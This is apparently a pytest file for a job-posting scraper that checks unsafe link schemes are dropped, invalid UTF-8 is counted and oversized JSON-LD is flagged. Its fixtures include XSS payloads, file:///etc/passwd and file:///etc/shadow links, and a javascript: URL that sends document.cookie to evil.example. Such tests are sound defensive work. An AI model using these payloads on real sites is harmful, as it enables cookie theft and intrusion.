"""What a source sends stays within bounds (issue 13.7), through the engine, pipeline and store:

- a posting's url / apply_url is http(s) or nothing: ``javascript:``, ``data:`` and ``file:``
  links are dropped at the parser (JSON-LD) or at ``build`` (every other format) and counted;
- invalid UTF-8 is counted and never stored silently as mojibake: the bad bytes become U+FFFD
  and a posting holding one is recorded as a bad page (the posting itself is kept);
- a JSON-LD block over lxml's 10 MB text limit (which lxml drops without a word) is a bad page,
  not an ``ok`` run with nothing in it.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

from schemas import Posting
from storage import Store
from tests.scrapers._crawl import bad_pages, run

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
PIPELINE = {"ITEM_PIPELINES": {"scrapers.pipelines.IngestPipeline": 300}}
SITE = "https://careers.mesa.example"
HTML = {"content_type": "text/html; charset=utf-8"}
NOW = {"HIMJOBS_CRAWL_TIME": "2026-11-20T12:00:00"}
UNSAFE = {
    "mesa-1": "javascript:alert(document.cookie)",
    "mesa-2": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "mesa-3": "file:///etc/passwd",
    "mesa-4": "/jobs/mesa-4?ref=site",  # relative: resolved against the page, kept
}


def _posting(key: str, title: str, **extra: Any) -> dict[str, Any]:
    return {
        "@context": "https://schema.org",
        "@type": "JobPosting",
        "title": title,
        "identifier": key,
        "datePosted": "2026-11-04",
        "description": "<p>Scan, index and file charts. High school diploma or GED required.</p>",
        "hiringOrganization": {"@type": "Organization", "name": "Mesa Health"},
        "jobLocation": {
            "@type": "Place",
            "address": {"addressLocality": "Mesa", "addressRegion": "AZ"},
        },
        **extra,
    }


def _page(*blocks: str) -> str:
    scripts = "".join(f'<script type="application/ld+json">{b}</script>' for b in blocks)
    return f"<html><head>{scripts}</head><body><a href='/jobs/mesa-ok'>job</a></body></html>"


def _sitemap(mock: Any, path: str, pages: list[str]) -> None:
    urls = "".join(f"<url><loc>{SITE}{p}</loc></url>" for p in pages)
    mock.add_route(
        {
            "path": path,
            "content_type": "application/xml",
            "body": f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>',
        }
    )


def _crawl(
    mock: Any, tmp_path: Path, source: str, boards: str, *, duplicates: bool = False
) -> tuple[dict[str, Any], list[Posting]]:
    """Crawl ``source`` through the pipeline into a new SQLite file: the crawl's stats and the
    postings then stored (``duplicates``: those marked as duplicates too)."""
    url = f"sqlite:///{tmp_path / 'crawl.db'}"
    stats, _ = run(
        source, mock.url, boards=boards, settings={**PIPELINE, **NOW, "HIMJOBS_DATABASE_URL": url}
    )
    with Store(url) as store:
        return stats, store.search(limit=10, include_duplicates=duplicates)


def test_jsonld_non_web_urls_are_dropped_and_counted(
    mock: Any, tmp_path: Path, reliability: Any
) -> None:
    for key, url in UNSAFE.items():
        page = _page(json.dumps(_posting(key, "Medical Records Clerk", url=url)))
        mock.add_route({"path": f"/jobs/{key}", "body": page, **HTML})
    _sitemap(mock, "/mesa-sitemap.xml", [f"/jobs/{k}" for k in UNSAFE])
    stats, found = _crawl(mock, tmp_path, "jsonld", f"{SITE}/mesa-sitemap.xml", duplicates=True)
    stored = {p.external_id.split(":", 1)[1]: p for p in found}
    reliability.record(
        "untrusted content",
        "JSON-LD JobPosting url is javascript:, data: or file:",
        stored=len(stored),
        lost=0,
        errors=int(stats.get("himjobs/bad_pages", 0)),
        outcome=f"dropped {stats.get('himjobs/unsafe_urls_dropped', 0)} non-http(s) urls; "
        "each posting keeps its page's own https URL",
    )
    assert set(stored) == set(UNSAFE)
    for key in ("mesa-1", "mesa-2", "mesa-3"):
        assert stored[key].url == stored[key].apply_url == f"{SITE}/jobs/{key}"
    assert stored["mesa-4"].url == f"{SITE}/jobs/mesa-4?ref=site"
    assert stats["himjobs/unsafe_urls_dropped"] == 3
    assert stats["himjobs/outcome"] == "ok"  # the postings are whole: nothing was lost


def test_non_web_apply_url_from_an_api_is_dropped(
    mock: Any, tmp_path: Path, reliability: Any
) -> None:
    page = json.loads((FIXTURES / "lever" / "lakeshore_page1.json").read_text("utf-8"))
    page[0]["applyUrl"] = "javascript:fetch('https://evil.example/'+document.cookie)"
    page[1]["hostedUrl"] = "data:text/html,<script>alert(1)</script>"
    page[1]["applyUrl"] = "file:///etc/shadow"
    mock.add_route({"path": "/v0/postings/lakeshoremed", "json_body": page})
    stats, found = _crawl(mock, tmp_path, "lever", "lakeshoremed", duplicates=True)
    stored = {p.external_id: p for p in found}
    reliability.record(
        "untrusted content",
        "Lever applyUrl javascript:, hostedUrl data: and applyUrl file:",
        # the posting with only non-web links is a bad record, not a good posting lost
        stored=len(stored),
        lost=0,
        errors=int(stats.get("himjobs/bad_pages", 0)),
        outcome=f"dropped {stats.get('himjobs/unsafe_urls_dropped', 0)} non-http(s) urls; "
        f"{', '.join(b['reason'][:60] for b in bad_pages(stats)) or 'no bad page'}",
    )
    first = stored["3f7c2a10-6b1e-4c8e-9d1a-0a5e7b2c4d11"]
    assert first.url.startswith("https://jobs.lever.co/") and first.apply_url is None
    # the second has no http(s) link at all: a bad record, not a posting linking to data:
    assert "8a1d9e44-2f0b-47c3-b6e5-91c0d3a7f502" not in stored
    assert stats["himjobs/unsafe_urls_dropped"] == 3
    assert [b["kind"] for b in bad_pages(stats)] == ["invalid_posting"]
    assert "no http(s) url" in bad_pages(stats)[0]["reason"]


def test_invalid_utf8_in_json_is_counted_not_mojibake(
    mock: Any, tmp_path: Path, reliability: Any
) -> None:
    data = json.loads((FIXTURES / "greenhouse" / "northridge_jobs.json").read_text("utf-8"))
    broken = copy.deepcopy(data)
    broken["jobs"][0]["title"] = "Medical Records Clerk __BAD__ Days"
    mock.add_route(
        {
            "path": "/v1/boards/northridgehealth/jobs",
            "body": json.dumps(broken),
            "fault": {"kind": "expand", "with": {"__BAD__": {"hex": "ff c3 28"}}},
        }
    )
    stats, found = _crawl(mock, tmp_path, "greenhouse", "northridgehealth")
    titles = sorted(p.title for p in found)
    reliability.record(
        "untrusted content",
        "Greenhouse board JSON with invalid UTF-8 bytes in one title",
        stored=len(titles),
        lost=0,
        errors=int(stats.get("himjobs/bad_pages", 0)),
        outcome=f"counted ({stats.get('himjobs/invalid_utf8', 0)}); run "
        f"{stats.get('himjobs/outcome')}; stored with U+FFFD, recorded as a bad page",
    )
    assert stats["himjobs/invalid_utf8"] == 1
    assert titles[0] == "Medical Records Clerk \ufffd\ufffd( Days" and len(titles) == 2
    assert not any("\u00ff" in t or "\u00c3" in t for t in titles)  # no cp1252 guess
    (bad,) = bad_pages(stats)
    assert bad["kind"] == "invalid_utf8" and "byte" in bad["reason"]
    assert stats["himjobs/outcome"] == "partial"


def test_invalid_utf8_in_a_job_page_is_counted(mock: Any, tmp_path: Path, reliability: Any) -> None:
    body = _page(json.dumps(_posting("mesa-9", "Health Information Clerk __BAD__")))
    mock.add_route(
        {
            "path": "/jobs/mesa-9",
            "body": body,
            **HTML,
            "fault": {"kind": "expand", "with": {"__BAD__": {"hex": "e9"}}},
        }
    )
    _sitemap(mock, "/utf-sitemap.xml", ["/jobs/mesa-9"])
    stats, (posting,) = _crawl(mock, tmp_path, "jsonld", f"{SITE}/utf-sitemap.xml")
    reliability.record(
        "untrusted content",
        "JSON-LD job page declared UTF-8 holding a latin-1 byte",
        stored=1,
        lost=0,
        errors=int(stats.get("himjobs/bad_pages", 0)),
        outcome=f"counted ({stats.get('himjobs/invalid_utf8', 0)}); run "
        f"{stats.get('himjobs/outcome')}; stored with U+FFFD, recorded as a bad page",
    )
    assert posting.title == "Health Information Clerk \ufffd"
    assert stats["himjobs/invalid_utf8"] == 1
    assert [b["kind"] for b in bad_pages(stats)] == ["invalid_utf8"]


def test_jsonld_listing_block_over_10_mb_is_a_bad_page(
    mock: Any, tmp_path: Path, reliability: Any
) -> None:
    item = json.dumps(
        {
            "@type": "ListItem",
            "item": _posting("x", "Medical Records Clerk", description="y" * 2000),
        }
    )
    listing = json.dumps(
        {"@context": "https://schema.org", "@type": "ItemList", "itemListElement": ["__ITEMS__"]}
    )
    block = listing.replace('"__ITEMS__"', "__ITEMS__")
    mock.add_route(
        {
            "path": "/openings",
            "body": _page(block),
            **HTML,
            "fault": {"kind": "expand", "with": {"__ITEMS__": {"text": item + ",", "times": 5000}}},
        }
    )
    mock.add_route(
        {
            "path": "/jobs/mesa-ok",
            "body": _page(json.dumps(_posting("mesa-ok", "Medical Records Clerk"))),
            **HTML,
        }
    )
    stats, _ = _crawl(mock, tmp_path, "jsonld", f"{SITE}/openings")
    bad = bad_pages(stats)
    reliability.record(
        "untrusted content",
        "JSON-LD listing page whose ItemList block is over 10 MB",
        stored=int(stats.get("himjobs/stored", 0)),
        lost=0,
        errors=len(bad),
        outcome=f"run {stats.get('himjobs/outcome')}; recorded: "
        f"{bad[0]['reason'] if bad else 'nothing'}",
    )
    assert [b["kind"] for b in bad] == ["oversized_jsonld"]
    assert "over the HTML parser's 10 MB text limit" in bad[0]["reason"]
    assert bad[0]["url"] == f"{SITE}/openings"
    assert stats["himjobs/stored"] == 1  # the linked job page is still read
    assert stats["himjobs/outcome"] == "partial"
